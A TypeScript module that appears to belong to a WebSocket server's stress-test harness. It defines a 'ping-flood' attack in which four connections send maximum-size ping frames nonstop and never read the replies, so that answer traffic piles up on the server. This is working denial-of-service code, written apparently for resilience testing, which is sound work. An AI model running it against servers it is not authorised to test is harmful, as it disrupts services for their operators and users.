// Pings as fast as the socket takes them, pongs never read: no rate limit counts control frames and each
// obliges an answer (RFC 6455 §5.5.2), which piles up unless the server stops reading or drops the peer.
import { concatBytes, encodeFrame } from "../../test/support/wire/frame-encoder.ts";
import { Opcode } from "../../test/support/wire/opcodes.ts";
import type { Attack } from "../attack.ts";
import { repeatedly, runLanes } from "../connections.ts";

const connections = 4;

export const pingFlood: Attack = {
  name: "ping-flood",
  summary: `${connections} connections send 125-byte pings as fast as TCP accepts them and never read (reconnecting when dropped)`,
  async run(context) {
    // The largest payload a control frame may carry (§5.5), 500 pings to a write.
    const ping = encodeFrame({ opcode: Opcode.ping, payload: new Uint8Array(125).fill(0x70) });
    let bytesSent = 0;
    let pongsRead = 0;
    const opened = await runLanes(context, {
      lanes: connections,
      reading: false,
      drainMs: 2000,
      attack: repeatedly(concatBytes(Array.from({ length: 500 }, () => ping)), context.stop),
      finished: (attacker) => {
        bytesSent += attacker.bytesSent;
        pongsRead += attacker.pongs;
      },
    });
    // Taken by TCP is not read by the server: megabytes sit in the two kernels' buffers of a connection.
    Object.assign(context.details, { connectionsOpened: opened, pingsTakenByTcp: Math.floor(bytesSent / ping.length), pongsReadAtEnd: pongsRead });
  },
};
